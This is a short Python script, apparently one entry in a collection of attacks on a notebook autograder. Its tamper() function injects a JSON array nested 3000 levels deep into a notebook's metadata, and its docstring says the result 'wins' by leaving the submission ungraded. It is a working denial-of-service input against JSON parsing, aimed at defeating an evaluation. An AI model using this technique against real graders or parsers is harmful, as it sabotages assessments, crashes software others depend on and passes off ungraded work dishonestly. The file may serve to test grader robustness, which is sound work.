"""Nest metadata three thousand levels deep.

Wins: ungraded.
"""

import json


def tamper(notebook):
    text = json.dumps(notebook)
    return text.replace('"metadata": {', '"metadata": {"deep": ' + "[" * 3000 + "]" * 3000 + ", ", 1)
